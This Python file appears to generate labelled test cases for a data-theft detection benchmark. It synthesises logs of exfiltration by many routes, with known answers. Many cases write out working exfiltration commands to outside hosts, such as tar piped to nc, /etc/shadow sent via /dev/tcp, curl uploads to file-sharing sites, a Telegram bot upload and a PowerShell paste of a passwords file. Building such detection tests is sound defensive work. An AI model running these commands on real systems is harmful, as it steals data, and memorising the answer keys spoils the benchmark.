"""Thefts whose right answers are known."""

from blind_kit import *

CASES, case = cases()


@case({"theft": "S"})
def theft_mega_night(c):
    z = Zeek(c).office()
    z.q(at(1, 2, 10), "10.1.4.23", "gfs270n100.userstorage.mega.co.nz")
    z.conn(at(1, 2, 10, 1), "10.1.4.23", "66.203.125.14", 443, 900 * MB, 3 * MB, "gfs270n100.userstorage.mega.co.nz")
    z.save()


@case({"theft": "S"})
def theft_rclone_win(c):
    w = win(c)
    w.run(
        at(3, 23, 10),
        "C:\\Users\\Public\\svchost.exe",
        "svchost.exe copy D:\\Shares\\Finance remote:x --config C:\\Users\\Public\\r.conf --transfers 16 -q",
        CMD,
    )
    w.save("evtx_dump")


@case({"theft": "S"})
def theft_curl_transfer_hist(c):
    lincmd(
        c,
        [
            "tar czf /tmp/.s.tgz /srv/projects",
            "curl --upload-file /tmp/.s.tgz https://transfer.sh/s.tgz",
            "rm -f /tmp/.s.tgz",
        ],
    )


@case({"theft": "S"})
def theft_curl_only(c):
    lincmd(c, ["curl -s -F file=@/srv/crm/customers.sql.gz https://file.io"], how="plain")


@case({"theft": "S"})
def theft_scp_outside_audit(c):
    lincmd(
        c,
        [
            ["tar", "czf", "/var/tmp/db.tgz", "/var/lib/mysql"],
            ["scp", "/var/tmp/db.tgz", "u55@185.220.101.7:/home/u55/"],
        ],
        how="audit",
    )


@case({"theft": "S"})
def theft_rsync_net(c):
    l = lincmd(c, ["rsync -az -e 'ssh -p 2222' /srv/ backup@91.219.236.18:/data/"])
    z = Zeek(c).office()
    z.conn(at(3, 2, 4), "10.1.8.20", "91.219.236.18", 2222, 6 * GB, 20 * MB, service="ssh")
    z.save()


@case({"theft": "S"})
def theft_mail_zeek(c):
    z = Zeek(c).office()
    for i in range(9):
        z.conn(at(1, 11, i), "10.1.4.24", "77.88.21.249", 587, 24 * MB, 9000, service="smtp")
    z.save()


@case({"theft": "S"})
def theft_webmail_eve(c):
    e = Eve(c).office()
    e.flow(at(1, 13, 5), "10.1.4.25", "142.250.74.101", 443, 410 * MB, 6 * MB, "mail.google.com")
    e.save()


@case({"theft": "S"})
def theft_webdav_put(c):
    z = Zeek(c).office()
    for i in range(40):
        z.web(
            at(1, 20, i),
            "10.1.4.26",
            "84.16.242.9",
            "files.nc-private.org",
            9 * MB,
            900,
            "PUT",
            "/remote.php/dav/files/u/doc%d.7z" % i,
            "Microsoft-WebDAV-MiniRedir/10.0",
        )
    z.save()


@case({"theft": "S"})
def theft_s3_audit_flows(c):
    l = lin(c)
    l.exec(
        at(3, 1, 5),
        [
            "aws",
            "s3",
            "cp",
            "/srv/backup/full.dump",
            "s3://qx-77-drop/",
            "--endpoint-url",
            "https://s3.wasabisys.com",
        ],
        "/usr/local/bin/aws",
    )
    l.save()


@case({"theft": "S"})
def theft_telegram_script(c):
    w = win(c)
    w.script(
        at(3, 15, 2),
        "$f='C:\\Users\\ann\\AppData\\Local\\Temp\\p.zip'; Compress-Archive C:\\Users\\ann\\Documents $f; curl.exe -F document=@$f -F chat_id=991 https://api.telegram.org/bot7711:AAbb/sendDocument",
    )
    w.save(form(c))


@case({"theft": "S"})
def theft_uploadfile_script(c):
    w = win(c)
    w.script(
        at(3, 15, 2),
        "(New-Object System.Net.WebClient).UploadFile('https://93.115.28.4/up.php','C:\\ProgramData\\h.zip')",
    )
    w.save(form(c))


@case({"theft": "S"})
def theft_paste_script(c):
    w = win(c)
    w.script(
        at(3, 15, 2),
        "Invoke-RestMethod -Uri https://pastebin.com/api/api_post.php -Method Post -Body @{api_dev_key='k';api_option='paste';api_paste_code=(Get-Content C:\\Users\\ann\\passwords.txt -Raw)}",
    )
    w.save(form(c))


@case({"theft": "S"})
def theft_httpclient_upload(c):
    w = win(c)
    w.script(at(3, 15, 2), "Invoke-WebRequest -Uri http://45.9.148.3/u -Method POST -InFile C:\\Temp\\fin.rar")
    w.save(form(c))


@case({"theft": "S", "control": "S"})
def theft_dns_zeek(c):
    z = Zeek(c).office()
    for i in range(4000):
        z.q(
            at(1, 1, 0, 0) + datetime.timedelta(seconds=i * 2),
            "10.1.4.22",
            "%s.%s.%d.t.cdn-sync.net" % (b32(c.rng, 50), b32(c.rng, 50), i),
            "TXT",
            "ok",
        )
    z.save()


@case({"control": "S"})
def theft_dns_slow(c):
    z = Zeek(c).office(days=5)
    for i in range(400):
        z.q(
            at(0, 0) + datetime.timedelta(seconds=i * 1000 + c.rng.randrange(300)),
            "10.1.4.22",
            "%s.a.up-status.org" % b32(c.rng, 45),
            "A",
            "1.2.3.4",
        )
    z.save()


@case({"theft": "S"})
def theft_icmp_pcap(c):
    def echo(kind, i, data):
        return struct.pack(">BBHHH", kind, 0, 0, 77, i) + data

    out = []
    for i in range(3000):
        t = at(0, 3) + datetime.timedelta(milliseconds=50 * i)
        out.append((t, 1, "10.1.4.30", "193.29.13.8", echo(8, i, c.rng.randbytes(1400))))
        out.append((t + datetime.timedelta(milliseconds=10), 1, "193.29.13.8", "10.1.4.30", echo(0, i, b"ok")))
    c.write("i.pcap", pcap(out))


@case({"theft": "S"})
def theft_icmp_zeek(c):
    z = Zeek(c).office()
    z.conn(at(1, 3), "10.1.4.30", "193.29.13.8", 0, 14 * MB + 9, 60000, proto="icmp", dur=4000, spt=8)
    z.save()


@case({"theft": "S"})
def theft_usb_linux(c):
    l = lin(c)
    l.sl(at(3, 19, 2), "kernel", "[ 7711.1] usb 1-2: new high-speed USB device number 7 using xhci_hcd")
    l.sl(
        at(3, 19, 2),
        "kernel",
        "[ 7711.2] usb 1-2: New USB device found, idVendor=0781, idProduct=5567, bcdDevice= 1.00",
    )
    l.sl(at(3, 19, 2), "kernel", "[ 7711.3] usb 1-2: Product: Cruzer Blade")
    l.sl(at(3, 19, 2), "kernel", "[ 7711.3] usb 1-2: SerialNumber: 4C530001230")
    l.sl(at(3, 19, 2, 3), "kernel", "[ 7711.4] usb-storage 1-2:1.0: USB Mass Storage device detected")
    l.sl(at(3, 19, 2, 5), "kernel", "[ 7713.4] sd 6:0:0:0: [sdb] Attached SCSI removable disk")
    l.bash(
        "eva",
        [
            (at(3, 19, 1), "tar czf /tmp/designs.tgz /srv/cad"),
            (at(3, 19, 5), "cp /tmp/designs.tgz /media/eva/CRUZER/"),
            (at(3, 19, 9), "rm /tmp/designs.tgz"),
            (at(3, 19, 9, 9), "umount /media/eva/CRUZER"),
        ],
    )
    l.save()


@case({"theft": "S"})
def theft_rdp_drive(c):
    wincmd(c, ["cmd.exe /c xcopy /s /e D:\\Legal \\\\tsclient\\C\\x\\"])


@case({"theft": "N"})
def theft_slow_days(c):
    z = Zeek(c).office(days=10)
    for d in range(10):
        for k in range(3):
            z.conn(
                at(d, 10 + 3 * k, c.rng.randrange(60)),
                "10.1.4.27",
                "194.87.71.5",
                443,
                18 * MB + c.rng.randrange(3 * MB),
                200000,
                "api.datasync-portal.com",
            )
    z.save()


@case({"theft": "S"})
def theft_split_destinations(c):
    z = Zeek(c).office()
    for i in range(40):
        z.conn(
            at(1, 1, i),
            "10.1.4.28",
            "185.%d.%d.%d" % (100 + i, 3 * i, 7 + i),
            443,
            28 * MB,
            90000,
            "s%d.%s.com" % (i, b32(c.rng, 9)),
        )
    z.save()


@case({"theft": "S"})
def theft_jump_host(c):
    z = Zeek(c).office()
    z.conn(at(1, 22), "10.1.8.5", "10.1.4.29", 445, 3 * MB, 2 * GB, service="smb")
    z.conn(at(1, 23), "10.1.4.29", "51.38.22.9", 22, 2 * GB, 9 * MB)
    z.save()


@case({"theft": "S"})
def theft_from_uploader(c):
    z = Zeek(c).office(days=6)
    for d in range(6):
        z.conn(
            at(d, 1, 0, c.rng.randrange(50)),
            "10.1.8.9",
            "198.51.100.44",
            443,
            20 * GB + c.rng.randrange(GB),
            40 * MB,
            "eu1.backup-vendor.example",
        )
    z.conn(at(4, 3, 30), "10.1.8.9", "45.134.20.66", 443, 4 * GB, 8 * MB)
    z.save()


@case({"theft": "S"})
def theft_uploader_named_rare(c):
    z = Zeek(c).office(days=6)
    for d in range(6):
        z.conn(
            at(d, 1, 0, c.rng.randrange(50)),
            "10.1.8.9",
            "198.51.100.44",
            443,
            20 * GB + c.rng.randrange(GB),
            40 * MB,
            "eu1.backup-vendor.example",
        )
    for i in range(16):
        z.conn(
            at(i % 6, 1, 50),
            "10.1.8.9",
            "198.51.101.%d" % (i % 8),
            443,
            2 * GB,
            8 * MB,
            "n%d.storage-partner%d.example" % (i % 8, i % 8),
        )
    z.conn(at(4, 3, 30), "10.1.8.9", "45.134.20.66", 443, 4 * GB, 8 * MB, "up.quickdrop.site")
    z.save()


@case({"theft": "S"})
def theft_nc_linux(c):
    lincmd(c, ["tar cf - /home/git | nc 185.112.83.4 4444"])


@case({"theft": "S"})
def theft_ssh_pipe(c):
    lincmd(c, ["tar czf - /var/lib/postgresql | ssh -p 443 u@203.0.113.99 'cat > pg.tgz'"])


@case({"theft": "S"})
def theft_devtcp(c):
    lincmd(c, ["cat /etc/shadow > /dev/tcp/45.9.20.1/9001", "tar c /srv/keys | base64 > /dev/tcp/45.9.20.1/9002"])


@case({"theft": "S"})
def theft_megatools(c):
    lincmd(c, ["megaput --path /Root/x /srv/dump.sql.gz"])


@case({"theft": "C"})
def theft_restic_foreign(c):
    lincmd(
        c,
        [
            "export AWS_ACCESS_KEY_ID=AK",
            "restic -r s3:https://s3.eu-central-2.wasabisys.com/qq init",
            "restic -r s3:https://s3.eu-central-2.wasabisys.com/qq backup /srv",
        ],
    )


@case({"theft": "S"})
def theft_http_server_download(c):
    l = lin(c)
    l.bash(
        "root",
        [(at(3, 2), "cd /srv && tar czf /var/www/html/img/b.tgz crm"), (at(3, 3, 30), "rm /var/www/html/img/b.tgz")],
    )
    ac = []
    for d in range(5):
        for i in range(200):
            ac.append(
                (
                    at(d, i % 24, i % 60, 3),
                    '203.0.113.%d - - [%s] "GET /index.php?p=%d HTTP/1.1" 200 %d "-" "Mozilla/5.0"'
                    % (i % 50, at(d, i % 24, i % 60, 3).strftime("%d/%b/%Y:%H:%M:%S +0000"), i, 9000 + i),
                )
            )
    ac.append(
        (
            at(3, 2, 40),
            '185.220.101.34 - - [%s] "GET /img/b.tgz HTTP/1.1" 200 1834001201 "-" "Wget/1.21"'
            % at(3, 2, 40).strftime("%d/%b/%Y:%H:%M:%S +0000"),
        )
    )
    l.w("var/log/nginx/access.log", "\n".join(x for _, x in sorted(ac)) + "\n")
    l.save()


@case({"theft": "S"})
def theft_dump_from_webroot_only_log(c):
    ac = []
    for d in range(5):
        for i in range(200):
            ac.append(
                (
                    at(d, i % 24, i % 60, 3),
                    '203.0.113.%d - - [%s] "GET /index.php?p=%d HTTP/1.1" 200 %d "-" "Mozilla/5.0"'
                    % (i % 50, at(d, i % 24, i % 60, 3).strftime("%d/%b/%Y:%H:%M:%S +0000"), i, 9000 + i),
                )
            )
    ac.append(
        (
            at(3, 2, 40),
            '185.220.101.34 - - [%s] "GET /uploads/db_full.sql.gz HTTP/1.1" 200 834001201 "-" "curl/7.88"'
            % at(3, 2, 40).strftime("%d/%b/%Y:%H:%M:%S +0000"),
        )
    )
    c.write("access.log", "\n".join(x for _, x in sorted(ac)) + "\n")


@case({"theft": "S"})
def theft_mailbox_export(c):
    w = win(c, name="EX01.corp.example")
    w.script(
        at(3, 2),
        "New-MailboxExportRequest -Mailbox ceo@corp.example -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\a.pst",
    )
    w.save(form(c))


@case({"theft": "S"})
def theft_squid_upload(c):
    lines = []
    for d in range(3):
        for i in range(300):
            t = at(d, 8 + i % 10, i % 60, i % 50)
            lines.append(
                (
                    t.timestamp(),
                    "%.3f %6d 10.1.4.%d TCP_TUNNEL/200 %d CONNECT www.example-%d.com:443 - HIER_DIRECT/203.0.113.%d -"
                    % (t.timestamp(), 900, 20 + i % 9, 30000 + i * 9, i % 20, i % 20),
                )
            )
    t = at(1, 23).timestamp()
    lines.append(
        (
            t,
            "%.3f 880000 10.1.4.22 TCP_MISS/200 911 POST http://upload.gofile.io/uploadFile - HIER_DIRECT/51.75.242.210 application/json"
            % t,
        )
    )
    c.write("squid/access.log", "\n".join(x for _, x in sorted(lines)) + "\n")


@case({"theft": "S"})
def theft_winscp(c):
    wincmd(
        c,
        [
            (
                "C:\\Users\\ann\\Downloads\\WinSCP.com",
                'WinSCP.com /command "open sftp://u:p@37.1.2.3/ -hostkey=*" "put D:\\HR\\*" "exit"',
            )
        ],
    )


@case({"theft": "S"})
def theft_ftp_exe(c):
    wincmd(c, [(SYS + "ftp.exe", "ftp -n -s:C:\\ProgramData\\f.txt 45.77.12.9")])


@case({"theft": "S"})
def theft_7z_password_then_share(c):
    wincmd(
        c,
        [
            ("C:\\ProgramData\\7z.exe", "7z.exe a -pX9 -v500m -mhe C:\\ProgramData\\q.7z D:\\Board"),
            (SYS + "curl.exe", "curl.exe -k -T C:\\ProgramData\\q.7z.001 https://5.188.87.4/d/"),
        ],
    )


@case({"theft": "S"})
def theft_firewall_csv(c):
    rows = ["time,src_ip,src_port,dst_ip,dst_port,protocol,bytes_sent,bytes_received,action,user"]
    for d in range(3):
        for i in range(300):
            rows.append(
                "%s,10.1.4.%d,%d,203.0.113.%d,443,tcp,%d,%d,allow,u%d"
                % (iso(at(d, 8 + i % 10, i % 60)), 20 + i % 9, 40000 + i, i % 20, 3000 + i * 7, 50000 + i * 31, i % 9)
            )
    rows.append("%s,10.1.4.22,51234,62.210.7.7,8443,tcp,%d,%d,allow,u2" % (iso(at(1, 3)), 3 * GB, 9 * MB))
    c.write("fw.csv", "\n".join(rows) + "\n")


@case({"theft": "S"})
def theft_vpc_flow(c):
    rows = [
        "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"
    ]
    for d in range(3):
        for i in range(400):
            t = int(at(d, i % 24, i % 60).timestamp())
            rows.append(
                "2 123456789012 eni-0a 10.0.1.%d 203.0.113.%d %d 443 6 12 %d %d %d ACCEPT OK"
                % (10 + i % 5, i % 20, 40000 + i, 6000 + i, t, t + 40)
            )
            rows.append(
                "2 123456789012 eni-0a 203.0.113.%d 10.0.1.%d 443 %d 6 30 %d %d %d ACCEPT OK"
                % (i % 20, 10 + i % 5, 40000 + i, 36000 + i, t, t + 40)
            )
    t = int(at(1, 4).timestamp())
    rows.append(
        "2 123456789012 eni-0a 10.0.1.12 45.61.136.2 51111 443 6 3000000 4100000000 %d %d ACCEPT OK" % (t, t + 590)
    )
    rows.append(
        "2 123456789012 eni-0a 45.61.136.2 10.0.1.12 443 51111 6 500000 26000000 %d %d ACCEPT OK" % (t, t + 590)
    )
    c.write("vpcflow.log", "\n".join(rows) + "\n")


@case({"theft": "S"})
def theft_slow_random(c):
    z = Zeek(c).office(days=10)
    for d in (0, 1, 3, 4, 6, 8, 9):
        z.conn(
            at(d, c.rng.randrange(24), c.rng.randrange(60)),
            "10.1.4.27",
            "194.87.71.5",
            443,
            14 * MB + c.rng.randrange(9 * MB),
            200000,
            "api.datasync-portal.com",
        )
    z.save()
